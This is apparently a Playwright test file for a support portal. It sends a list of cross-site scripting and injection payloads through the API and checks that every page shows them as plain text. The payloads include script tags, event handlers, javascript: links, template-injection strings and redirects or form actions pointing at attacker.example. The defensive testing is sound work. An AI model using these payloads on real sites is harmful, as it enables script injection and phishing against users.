/**
 * Text from customers and staff is text, on every page: whatever stands in it, no script runs, nothing is asked for, and it is
 * shown as it was written. Each text comes in through the API, as an attacker's program would send it.
 */
import type { Page } from "playwright-core";
import { describe, expect, test } from "vitest";
import { hasBrowser } from "./browser.ts";
import { usePortal } from "./portal-pages.ts";

const portal = usePortal({
	POSTERN_RATE_TICKETS_PER_MINUTE: "1000",
	POSTERN_RATE_REPLIES_PER_MINUTE: "1000",
	POSTERN_PORT25_PER_HOUR: "1000",
});

/** Each would call this if it were anything but text. */
const call = "window.taken=1";

const corpus = [
	`<script>${call}</script>`,
	`</textarea></title></style><script>${call}</script>`,
	`<img src=x onerror="${call}">`,
	`<svg onload="${call}"><animate onbegin="${call}" attributeName=x dur=1s>`,
	`<iframe srcdoc="<script>parent.taken=1</script>">`,
	`<a href="javascript:${call}">here</a>`,
	`javascript:${call}`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${call}&gt;">`,
	`<details open ontoggle="${call}">`,
	`<meta http-equiv="refresh" content="0;url=https://attacker.example/">`,
	`<base href="https://attacker.example/"><link rel=stylesheet href=//attacker.example/x.css>`,
	`<form action="https://attacker.example/"><input name=q autofocus onfocus="${call}">`,
	`" onmouseover="${call}" x="`,
	`' autofocus onfocus='${call}`,
	`{{constructor.constructor("${call}")()}} \${${call}} <%= ${call} %>`,
	`$t(product) {{count}} $nest(x)`,
	`<scr\u0000ipt>${call}</script>`.replaceAll("\u0000", ""),
	`\u202Egnp.exe \u2066<b>bidi</b>\u2069`,
] as const;

/** All of them in one text, for fields that are as long. */
const whole = corpus.join("\n");

async function isTaken(page: Page): Promise<unknown> {
	return page.evaluate("window.taken");
}

describe.skipIf(!hasBrowser)("hostile text at /support", () => {
	test("does nothing and is shown as it was written, in every field on every page", async () => {
		const tickets: { id: string }[] = [];
		for (const text of corpus)
			tickets.push(
				(await portal.asCustomer("trusted", "support/tickets", {
					...{ departmentSlug: "vps", subject: text, message: whole },
					context: { serviceType: "other", serviceName: text.slice(0, 255) },
				})) as { id: string },
			);
		const first = tickets[0]?.id ?? "";
		await portal.asCustomer("trusted", `support/tickets/${first}/messages`, {
			message: whole,
			encrypted: true,
		});
		await portal.asStaff(`tickets/${first}/messages`, { message: whole });
		for (const text of corpus)
			await portal.asCustomer("trusted", "api-keys", {
				name: text.slice(0, 90),
				scopes: ["read:support"],
			});
		const [vps] = portal.demo().clients["prepaid"]?.vps ?? [];
		const request = (await portal.asCustomer(
			"prepaid",
			"support/port25-requests",
			{ vpsId: vps?.id, reason: whole },
		)) as { id: string };
		await portal.asStaff(`port25-requests/${request.id}/actions/reject`, {
			reason: whole,
		});

		const asked = new Set<string>();
		const watch = (page: Page) =>
			page.on("request", (one) => asked.add(new URL(one.url()).origin));
		const { page, errors } = await portal.open("trusted");
		watch(page);
		// A list shows as many rows as the window has room for.
		await page.setViewportSize({ width: 1200, height: 3_000 });
		await portal.go(page, "/");
		await page.getByText(corpus.at(-1) ?? "").waitFor();
		await portal.go(page, "/tickets");
		for (const text of corpus)
			await page.getByText(text, { exact: true }).first().waitFor();
		await portal.go(page, `/tickets/${first}`);
		await page.getByRole("article").nth(2).waitFor();
		for (const article of await page.getByRole("article").all())
			expect(await article.innerText()).toContain(whole);
		expect(await page.title()).toBe(`${corpus[0]} · Support`);
		await portal.go(page, "/keys");
		await page.getByText(corpus[2], { exact: true }).waitFor();
		await page.getByRole("button", { name: `End: ${corpus[2]}` }).click();
		await page.getByRole("dialog").getByText(corpus[2]).waitFor();
		await page.keyboard.press("Escape");
		const dialog = page.getByRole("dialog");
		await dialog.waitFor({ state: "detached" });
		await page.keyboard.press("/");
		await dialog.getByRole("combobox").fill("here");
		await dialog.getByRole("option").first().waitFor();
		expect(await isTaken(page)).toBeUndefined();
		expect(errors).toEqual([]);

		const other = await portal.open("prepaid");
		watch(other.page);
		await other.page.getByText("<script>").first().waitFor();
		await portal.go(other.page, `/servers/${vps?.id}`);
		await other.page.getByText("Rejected", { exact: true }).waitFor();
		expect(await isTaken(other.page)).toBeUndefined();
		expect(other.errors).toEqual([]);
		expect([...asked]).toEqual([portal.server().url]);
	});

	test("does nothing while it is typed, kept and shown again, nor in the name of a file", async () => {
		const { page, errors } = await portal.open("other");
		await portal.go(page, "/tickets/new");
		await page.getByLabel("Subject").fill(corpus[2]);
		await page.getByLabel("Message").fill(whole);
		await page.getByLabel("Copies to").fill(corpus[0]);
		await page.locator('input[type="file"]').setInputFiles({
			...{ name: `<img src=x onerror=${call}>.txt`, mimeType: "text/html" },
			buffer: Buffer.from("only text\n"),
		});
		await page.getByRole("button", { name: /^Remove / }).waitFor();
		await page.getByRole("button", { name: "Open the ticket" }).click();
		await page.getByText("Not an e-mail address:").waitFor();
		await page.reload();
		await portal.signIn(page, portal.keyOf("other"));
		expect(await page.getByLabel("Message").inputValue()).toBe(whole);
		expect(await isTaken(page)).toBeUndefined();
		expect(errors.filter((text) => !text.includes("400"))).toEqual([]);
	});

	test("in the address of a page does nothing, and leads nowhere else", async () => {
		const { page, errors } = await portal.open("other");
		for (const text of corpus) {
			await portal.go(page, `/tickets?q=${encodeURIComponent(text)}`);
			await page.getByRole("heading", { name: "Tickets" }).waitFor();
		}
		await portal.go(page, `/tickets/${encodeURIComponent(corpus[0])}`);
		await page.getByRole("alert").waitFor();
		expect(await isTaken(page)).toBeUndefined();
		expect(new URL(page.url()).origin).toBe(portal.server().url);
		expect(errors.filter((text) => !/40[04]|429/.test(text))).toEqual([]);
	});
});
